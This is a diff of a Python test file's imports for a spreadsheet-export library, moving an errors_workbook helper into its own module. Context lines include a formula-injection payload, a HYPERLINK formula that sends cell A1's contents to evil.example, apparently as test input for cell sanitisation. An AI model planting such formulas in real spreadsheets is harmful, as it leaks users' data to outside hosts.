@@ -13,8 +13,9 @@ from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
 from qingfeng.lib.cells import safe_cell, safe_filename, safe_text, unquoted
+from qingfeng.lib.errors_workbook import errors_workbook
 from qingfeng.lib.plain_xlsx import plain_workbook
-from qingfeng.lib.tabular import Issue, cell, errors_workbook
+from qingfeng.lib.tabular import Issue, cell
 from qingfeng.lib.xlsx import Sheet, attachment, workbook_bytes
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
